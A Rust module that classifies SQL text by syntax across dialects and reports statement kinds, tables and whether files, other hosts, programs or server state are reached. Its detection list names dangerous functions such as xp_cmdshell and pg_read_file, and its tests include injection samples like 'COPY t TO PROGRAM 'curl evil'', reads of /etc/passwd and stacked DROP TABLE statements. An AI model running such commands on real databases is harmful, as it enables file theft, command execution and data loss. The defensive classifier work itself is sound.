//! What SQL would do, before a database does it.
//!
//! Every statement of a text is read by syntax, also the ones that stand in others: writing `WITH` queries, `EXPLAIN
//! ANALYZE`, `COPY … TO PROGRAM`. Told are the kinds of statements, the tables, the functions, and whether files, other
//! hosts or programs are reached. Without a dialect a text is read in all of them, and means all that it means in any.
//! What cannot be read is a [doubt](SqlText::doubt_text), and counts as the worst.
//!
//! Time and memory are bounded by the text's length and by budgets over tokens and operators.
//!
//! Not promised: what a function, a view or a trigger does in turn, unless it is one of the database's own that reach
//! out.

use std::collections::BTreeSet;
use std::ops::ControlFlow;

use sqlparser::ast::{
    CopySource, CopyTarget, Expr, ObjectName, Query, Select, SetExpr, Statement, TableFactor, Visit as _,
    Visitor,
};
use sqlparser::dialect::{
    Dialect, GenericDialect, MsSqlDialect, MySqlDialect, PostgreSqlDialect, SQLiteDialect,
};
use sqlparser::keywords::Keyword;
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Token, Tokenizer};

/// Longest text that is read, in bytes.
const MAX_TEXT: usize = 64 << 10;
/// Most words and signs.
const MAX_TOKENS: usize = 16_000;
/// Most operators: each may make the tree one deeper.
const MAX_OPERATORS: usize = 256;
/// Deepest nesting of brackets and queries.
const MAX_DEPTH: usize = 32;

/// Functions of databases that read or write files, run programs or speak to other hosts.
const REACHING: &[(&str, Reach)] = &[
    ("pg_read_file", Reach::File),
    ("pg_read_binary_file", Reach::File),
    ("pg_ls_dir", Reach::File),
    ("pg_ls_logdir", Reach::File),
    ("pg_ls_waldir", Reach::File),
    ("pg_stat_file", Reach::File),
    ("pg_file_write", Reach::File),
    ("lo_import", Reach::File),
    ("lo_export", Reach::File),
    ("lo_get", Reach::File),
    ("lo_put", Reach::File),
    ("lo_from_bytea", Reach::File),
    ("load_file", Reach::File),
    ("readfile", Reach::File),
    ("writefile", Reach::File),
    ("edit", Reach::File),
    ("load_extension", Reach::Program),
    ("read_csv", Reach::File),
    ("read_csv_auto", Reach::File),
    ("read_parquet", Reach::File),
    ("read_json", Reach::File),
    ("read_text", Reach::File),
    ("read_blob", Reach::File),
    ("glob", Reach::File),
    ("openrowset", Reach::Network),
    ("opendatasource", Reach::Network),
    ("openquery", Reach::Network),
    ("dblink", Reach::Network),
    ("dblink_connect", Reach::Network),
    ("dblink_connect_u", Reach::Network),
    ("dblink_exec", Reach::Network),
    ("dblink_open", Reach::Network),
    ("dblink_send_query", Reach::Network),
    ("http_get", Reach::Network),
    ("http_post", Reach::Network),
    ("net_http_get", Reach::Network),
    ("utl_http.request", Reach::Network),
    ("utl_inaddr.get_host_address", Reach::Network),
    ("url", Reach::Network),
    ("s3", Reach::Network),
    ("remote", Reach::Network),
    ("query_to_xml", Reach::Code),
    ("query_to_xml_and_xmlschema", Reach::Code),
    ("database_to_xml", Reach::Code),
    ("table_to_xml", Reach::Code),
    ("sys_exec", Reach::Program),
    ("sys_eval", Reach::Program),
    ("xp_cmdshell", Reach::Program),
    ("xp_dirtree", Reach::File),
    ("xp_fileexist", Reach::File),
    ("xp_regread", Reach::File),
    ("sp_oacreate", Reach::Program),
    ("sp_executesql", Reach::Code),
    ("pg_terminate_backend", Reach::Server),
    ("pg_cancel_backend", Reach::Server),
    ("pg_reload_conf", Reach::Server),
    ("pg_rotate_logfile", Reach::Server),
    ("pg_switch_wal", Reach::Server),
    ("set_config", Reach::Server),
    ("setval", Reach::Server),
    ("loread", Reach::File),
    ("lowrite", Reach::File),
    ("fsdir", Reach::File),
    ("lsdir", Reach::File),
    ("zipfile", Reach::File),
    ("fts3_tokenizer", Reach::Program),
    ("pg_execute_server_program", Reach::Program),
    ("cursor_to_xml", Reach::Code),
    ("schema_to_xml", Reach::Code),
    ("ts_stat", Reach::Code),
    ("ts_rewrite", Reach::Code),
    ("pg_promote", Reach::Server),
    ("pg_create_restore_point", Reach::Server),
    ("pg_logical_emit_message", Reach::Server),
    ("pg_notify", Reach::Server),
    ("pg_sleep", Reach::Server),
    ("pg_sleep_for", Reach::Server),
    ("pg_sleep_until", Reach::Server),
    ("sleep", Reach::Server),
    ("benchmark", Reach::Server),
    ("get_lock", Reach::Server),
    ("http_put", Reach::Network),
    ("http_delete", Reach::Network),
    ("http_head", Reach::Network),
    ("http_patch", Reach::Network),
];

/// The same of all functions whose names begin like this.
const REACHING_FAMILIES: &[(&str, Reach)] = &[
    ("pg_ls_", Reach::File),
    ("pg_file_", Reach::File),
    ("lo_", Reach::File),
    ("dblink", Reach::Network),
    ("utl_http.", Reach::Network),
    ("utl_file.", Reach::File),
    ("pg_read_", Reach::File),
    ("pg_backup_", Reach::Server),
    ("pg_wal_", Reach::Server),
    ("pg_replication_", Reach::Server),
    ("pg_create_", Reach::Server),
    ("pg_drop_", Reach::Server),
    ("pg_advisory_", Reach::Server),
    ("sp_oa", Reach::Program),
    ("xp_cmd", Reach::Program),
    ("xp_reg", Reach::File),
];

/// What a statement reaches beyond its tables. The words are the policy's.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Reach {
    /// Files of the server.
    File,
    /// Other hosts.
    Network,
    /// Programs of the server, or code that it loads.
    Program,
    /// SQL in a text.
    Code,
    /// The server itself: its settings and its other sessions.
    Server,
}

impl Reach {
    /// All of them.
    pub const ALL: &'static [Self] = &[Self::File, Self::Network, Self::Program, Self::Code, Self::Server];

    /// The word that policies use.
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::File => "file",
            Self::Network => "network",
            Self::Program => "program",
            Self::Code => "code",
            Self::Server => "server",
        }
    }
}

/// Whose SQL it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default)]
pub enum SqlDialect {
    /// Not known: what the text means in any of them.
    #[default]
    Any,
    /// `PostgreSQL`.
    Postgres,
    /// `MySQL` and `MariaDB`.
    Mysql,
    /// `SQLite`.
    Sqlite,
    /// Microsoft's.
    Mssql,
}

impl SqlDialect {
    /// All of them.
    pub const ALL: &'static [Self] = &[Self::Any, Self::Postgres, Self::Mysql, Self::Sqlite, Self::Mssql];

    /// The word that policies use.
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Any => "any",
            Self::Postgres => "postgres",
            Self::Mysql => "mysql",
            Self::Sqlite => "sqlite",
            Self::Mssql => "mssql",
        }
    }

    fn grammars(self) -> &'static [&'static dyn Dialect] {
        match self {
            Self::Any => &[
                &GenericDialect {},
                &PostgreSqlDialect {},
                &MySqlDialect {},
                &SQLiteDialect {},
                &MsSqlDialect {},
            ],
            Self::Postgres => &[&PostgreSqlDialect {}],
            Self::Mysql => &[&MySqlDialect {}],
            Self::Sqlite => &[&SQLiteDialect {}],
            Self::Mssql => &[&MsSqlDialect {}],
        }
    }
}

/// What a text of SQL would do.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct SqlText {
    kinds: BTreeSet<String>,
    tables: BTreeSet<String>,
    functions: BTreeSet<String>,
    reaches: BTreeSet<Reach>,
    statements: usize,
    doubt: Option<&'static str>,
}

impl SqlText {
    /// Reads `text`.
    pub fn read(text: &str, dialect: SqlDialect) -> Self {
        let mut read = Self::default();
        if text.len() > MAX_TEXT {
            read.doubt("the text is too long to be read");
            return read;
        }
        // SECURITY: MySQL runs what stands in such a comment.
        if text.contains("/*!") || text.contains("/*M!") {
            read.doubt("a comment that some databases run");
        }
        let mut failed = None;
        let mut any = false;
        for grammar in dialect.grammars() {
            match read.under(text, *grammar) {
                Ok(()) => any = true,
                Err(why) => failed = Some(why),
            }
        }
        // SECURITY: a text that is one statement in the grammars that we know may be two in the one that failed.
        let ambiguous = text.contains(['\\', '#', '`', '"', '$']) || text.contains("--");
        if let Some(why) = failed.filter(|_| !any || ambiguous) {
            read.doubt(why);
        }
        read
    }

    fn under(&mut self, text: &str, dialect: &dyn Dialect) -> Result<(), &'static str> {
        let tokens =
            Tokenizer::new(dialect, text).tokenize().map_err(|_| "it is not SQL that can be read")?;
        if tokens.len() > MAX_TOKENS {
            return Err("the text is too long to be read");
        }
        if tokens.iter().filter(|token| is_operator(token)).count() > MAX_OPERATORS {
            return Err("it has too many operators to be read");
        }
        let statements = Parser::new(dialect)
            .with_recursion_limit(MAX_DEPTH)
            .with_tokens(tokens)
            .parse_statements()
            .map_err(|_| "it is not SQL that can be read")?;
        self.statements = self.statements.max(statements.len());
        if statements.is_empty() {
            return Err("it holds no statement");
        }
        for statement in &statements {
            let _done = statement.visit(self);
        }
        Ok(())
    }

    /// The kinds of statements in it, in small letters: `select`, `insert`, `update`, `delete`, `merge`, `create`,
    /// `alter`, `drop`, `truncate`, `copy`, `grant`, … each the statement's first word.
    pub const fn kinds(&self) -> &BTreeSet<String> {
        &self.kinds
    }

    /// The tables that it names, as `name` or `schema.name`, without quotes. Names of its own `WITH` queries too.
    pub const fn tables(&self) -> &BTreeSet<String> {
        &self.tables
    }

    /// The functions that it calls.
    pub const fn functions(&self) -> &BTreeSet<String> {
        &self.functions
    }

    /// What it reaches beyond tables.
    pub const fn reaches(&self) -> &BTreeSet<Reach> {
        &self.reaches
    }

    /// How many statements stand beside each other.
    pub const fn statements(&self) -> usize {
        self.statements
    }

    /// Why the reading may not be all of it.
    pub const fn doubt_text(&self) -> Option<&'static str> {
        self.doubt
    }

    fn doubt(&mut self, why: &'static str) {
        self.doubt.get_or_insert(why);
    }

    fn function(&mut self, name: &ObjectName) {
        let name = plain(name).to_lowercase();
        let last = name.rsplit('.').next().unwrap_or(&name);
        let reach = REACHING.iter().find(|(known, _)| *known == name || *known == last);
        let family =
            || REACHING_FAMILIES.iter().find(|(known, _)| name.starts_with(known) || last.starts_with(known));
        self.reaches.extend(reach.or_else(family).map(|(_, reach)| *reach));
        self.functions.insert(name);
    }
}

/// Whether a token may make the tree deeper without a bracket.
fn is_operator(token: &Token) -> bool {
    match token {
        Token::Word(word) => matches!(
            word.keyword,
            Keyword::AND
                | Keyword::OR
                | Keyword::NOT
                | Keyword::IS
                | Keyword::LIKE
                | Keyword::ILIKE
                | Keyword::RLIKE
                | Keyword::REGEXP
                | Keyword::SIMILAR
                | Keyword::IN
                | Keyword::BETWEEN
                | Keyword::COLLATE
                | Keyword::UNION
                | Keyword::EXCEPT
                | Keyword::INTERSECT
                | Keyword::MINUS
                | Keyword::XOR
                | Keyword::DIV
                | Keyword::AT
                | Keyword::NOTNULL
        ),
        Token::Number(..)
        | Token::Char(_)
        | Token::SingleQuotedString(_)
        | Token::DoubleQuotedString(_)
        | Token::Whitespace(_)
        | Token::Comma
        | Token::Period
        | Token::LParen
        | Token::RParen
        | Token::SemiColon
        | Token::EOF => false,
        _ => true,
    }
}

/// What is reached by something that is made: code that the server loads, SQL in a text, tables of other hosts.
fn created(text: &str) -> Option<Reach> {
    /// Languages in which a function does what the server may.
    const UNTRUSTED: &[&str] =
        &["language c", "language internal", "language plpython", "language plperlu", "language plsh"];
    let mut words =
        text.split_whitespace().filter(|word| !matches!(*word, "create" | "or" | "replace" | "trusted"));
    match words.next()? {
        "extension" | "language" | "assembly" => Some(Reach::Program),
        "server" | "foreign" | "subscription" => Some(Reach::Network),
        "tablespace" => Some(Reach::File),
        "function" | "procedure" | "aggregate" => {
            let text: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
            let program = text.contains(" soname ") || UNTRUSTED.iter().any(|known| text.contains(known));
            Some(if program { Reach::Program } else { Reach::Code })
        }
        _ => None,
    }
}

fn plain(name: &ObjectName) -> String {
    let parts: Vec<String> = name
        .0
        .iter()
        .map(|part| part.as_ident().map_or_else(|| part.to_string(), |ident| ident.value.clone()))
        .collect();
    parts.join(".")
}

impl Visitor for SqlText {
    type Break = ();

    fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<()> {
        match statement {
            Statement::Query(query) => {
                // What a `WITH` introduces is told by the statement in it.
                let writes = matches!(
                    *query.body,
                    SetExpr::Insert(_) | SetExpr::Update(_) | SetExpr::Delete(_) | SetExpr::Merge(_)
                );
                if !writes {
                    self.kinds.insert("select".to_owned());
                }
            }
            Statement::Copy { source, target, to, .. } => {
                self.kinds.insert("copy".to_owned());
                match target {
                    CopyTarget::Program { .. } => drop(self.reaches.insert(Reach::Program)),
                    CopyTarget::File { .. } => drop(self.reaches.insert(Reach::File)),
                    CopyTarget::Stdin | CopyTarget::Stdout => {}
                }
                if !to {
                    self.kinds.insert("insert".to_owned());
                }
                if let CopySource::Table { table_name, .. } = source {
                    self.tables.insert(plain(table_name));
                }
            }
            Statement::Insert(_) => drop(self.kinds.insert("insert".to_owned())),
            Statement::Update(_) => drop(self.kinds.insert("update".to_owned())),
            Statement::Delete(_) => drop(self.kinds.insert("delete".to_owned())),
            Statement::Call(function) => {
                self.kinds.insert("call".to_owned());
                self.function(&function.name);
            }
            Statement::Drop { names, .. } => {
                self.kinds.insert("drop".to_owned());
                self.tables.extend(names.iter().map(plain));
            }
            other => {
                let text = other.to_string();
                let word = text.split(|c: char| !c.is_ascii_alphabetic()).next().unwrap_or_default();
                let kind = word.to_ascii_lowercase();
                match kind.as_str() {
                    "load" | "attach" | "install" | "unload" | "put" | "list" | "remove" => {
                        self.reaches.insert(Reach::File);
                    }
                    "exec" | "execute" | "prepare" | "declare" | "do" | "begin" => {
                        let lower = text.to_ascii_lowercase();
                        let found =
                            REACHING.iter().filter(|(name, _)| lower.contains(name)).map(|(_, reach)| *reach);
                        self.reaches.extend(found);
                        if matches!(kind.as_str(), "exec" | "execute") {
                            self.reaches.insert(Reach::Code);
                        }
                    }
                    "create" => self.reaches.extend(created(&text.to_ascii_lowercase())),
                    "waitfor" => drop(self.reaches.insert(Reach::Server)),
                    "pragma" | "set" | "reset" | "kill" | "discard" | "flush" => {
                        self.reaches.insert(Reach::Server);
                    }
                    _ => {}
                }
                self.kinds.insert(if kind.is_empty() { "other".to_owned() } else { kind });
            }
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
        if query.settings.is_some() || query.format_clause.is_some() {
            self.doubt("clauses of a database that is not known here");
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, select: &Select) -> ControlFlow<()> {
        if let Some(into) = &select.into {
            self.kinds.insert("create".to_owned());
            let text = into.to_string().to_ascii_lowercase();
            if text.contains("outfile") || text.contains("dumpfile") {
                self.reaches.insert(Reach::File);
            }
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<()> {
        self.tables.insert(plain(relation));
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<()> {
        match factor {
            TableFactor::Table { name, args: Some(_), .. } | TableFactor::Function { name, .. } => {
                self.function(name);
            }
            // `server.database.schema.table` stands on another server.
            TableFactor::Table { name, .. } if name.0.len() > 3 => {
                self.reaches.insert(Reach::Network);
            }
            TableFactor::Table { name, .. } if name.0.len() == 1 && plain(name).contains(['/', '.']) => {
                // DuckDB and ClickHouse read files and addresses that stand where a table would.
                self.reaches.insert(Reach::File);
            }
            _ => {}
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<()> {
        if let Expr::Function(function) = expr {
            self.function(&function.name);
        }
        ControlFlow::Continue(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(text: &str) -> SqlText {
        SqlText::read(text, SqlDialect::Postgres)
    }

    fn kinds(text: &str) -> Vec<String> {
        read(text).kinds.into_iter().collect()
    }

    #[test]
    fn kinds_are_by_syntax_and_not_by_words() {
        for (text, expected) in [
            ("SELECT * FROM orders", &["select"][..]),
            ("select 'DROP TABLE x' as note", &["select"]),
            ("SELECT 1; DROP TABLE x", &["drop", "select"]),
            ("SELECT 1 -- ; DROP TABLE x", &["select"]),
            ("SELECT/**/1;/**/DrOp/**/TABLE x", &["drop", "select"]),
            ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", &["delete", "select"]),
            ("WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", &["insert"]),
            ("SELECT * INTO copy FROM t", &["create", "select"]),
            ("EXPLAIN ANALYZE DELETE FROM t", &["delete", "explain"]),
            ("TRUNCATE t", &["truncate"]),
            ("MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE", &["merge"]),
            ("GRANT ALL ON t TO bob", &["grant"]),
            ("ALTER TABLE t ADD COLUMN a int", &["alter"]),
            ("UPDATE t SET a = 1 WHERE b IN (SELECT b FROM u)", &["update"]),
        ] {
            assert_eq!(kinds(text), expected, "{text}");
            assert_eq!(read(text).doubt_text(), None, "{text}");
        }
    }

    #[test]
    fn what_is_reached_is_told() {
        for (text, reach) in [
            ("COPY t TO PROGRAM 'curl evil'", Reach::Program),
            ("COPY t FROM '/etc/passwd'", Reach::File),
            ("SELECT pg_read_file('/etc/passwd')", Reach::File),
            ("SELECT pg_catalog.pg_read_file('/etc/passwd')", Reach::File),
            ("SELECT \"pg_read_file\"('/etc/passwd')", Reach::File),
            ("SELECT lo_import('/etc/passwd')", Reach::File),
            ("SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", Reach::Network),
            ("SELECT dblink_exec('x')", Reach::Network),
            ("SELECT query_to_xml('delete from t', true, true, '')", Reach::Code),
            ("SET ROLE postgres", Reach::Server),
            ("SELECT pg_ls_tmpdir()", Reach::File),
            ("SELECT lowrite(1, 'x')", Reach::File),
            ("SELECT pg_file_unlink('a')", Reach::File),
            ("SELECT cursor_to_xml('c', 1, true, true, '')", Reach::Code),
            ("SELECT pg_backup_start('x')", Reach::Server),
            ("SELECT pg_sleep(100)", Reach::Server),
            ("CREATE EXTENSION plpython3u", Reach::Program),
            ("CREATE FUNCTION f() RETURNS int AS 'x.so', 'f' LANGUAGE C", Reach::Program),
            (
                "CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u",
                Reach::Program,
            ),
            ("CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", Reach::Code),
            ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", Reach::Network),
        ] {
            assert!(read(text).reaches().contains(&reach), "{text}: {:?}", read(text));
        }
        for plain in [
            "SELECT count(*), lower(name) FROM t",
            "CREATE TABLE t (a int)",
            "CREATE VIEW v AS SELECT 1",
            "CREATE INDEX i ON t (a)",
            "SELECT now(), coalesce(a, 1), generate_series(1, 5) FROM a.b.c",
        ] {
            assert!(read(plain).reaches().is_empty(), "{plain}: {:?}", read(plain));
        }
    }

    #[test]
    fn tables_and_functions_are_told() {
        let sql = read(
            "SELECT lower(a.x) FROM public.Orders a JOIN \"Users\" u ON a.id = u.id WHERE u.id IN (SELECT id FROM banned)",
        );
        assert_eq!(
            sql.tables().iter().map(String::as_str).collect::<Vec<_>>(),
            ["Users", "banned", "public.Orders"]
        );
        assert!(sql.functions().contains("lower"));
    }

    #[test]
    fn what_is_not_read_is_a_doubt() {
        let deep = format!("SELECT {}1{}", "(".repeat(5_000), ")".repeat(5_000));
        let chain = format!("SELECT 1{}", " + 1".repeat(20_000));
        for text in [
            "SELEC 1",
            "",
            "DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE x'; END $$",
            "SELECT 'open",
            &deep,
            &chain,
            "drop everything!",
        ] {
            assert!(read(text).doubt_text().is_some(), "{text:.60}");
        }
        let mysql = SqlText::read("SELECT 1 /*!50000 ; DROP TABLE x */", SqlDialect::Mysql);
        assert!(mysql.doubt_text().is_some());
    }

    #[test]
    fn without_a_dialect_a_text_means_what_it_means_in_any() {
        let text = "SELECT 'a\\'; DROP TABLE x; --'";
        assert!(SqlText::read(text, SqlDialect::Any).kinds().contains("drop"));
        let benign = SqlText::read("SELECT id, name FROM orders WHERE id = 5 LIMIT 10", SqlDialect::Any);
        assert_eq!((benign.kinds().len(), benign.doubt_text()), (1, None), "{benign:?}");
    }

    proptest::proptest! {
        #[test]
        fn no_text_is_too_much(text in "(SELECT|FROM|\\(|\\)|'|\"|;|,|x|1|--|WITH|AS|INSERT| |\\$\\$|/\\*|\\*/|\\\\){0,30}") {
            for dialect in SqlDialect::ALL {
                let read = SqlText::read(&text, *dialect);
                proptest::prop_assert!(read.doubt_text().is_some() || !read.kinds().is_empty(), "{}", text);
            }
        }
    }
}
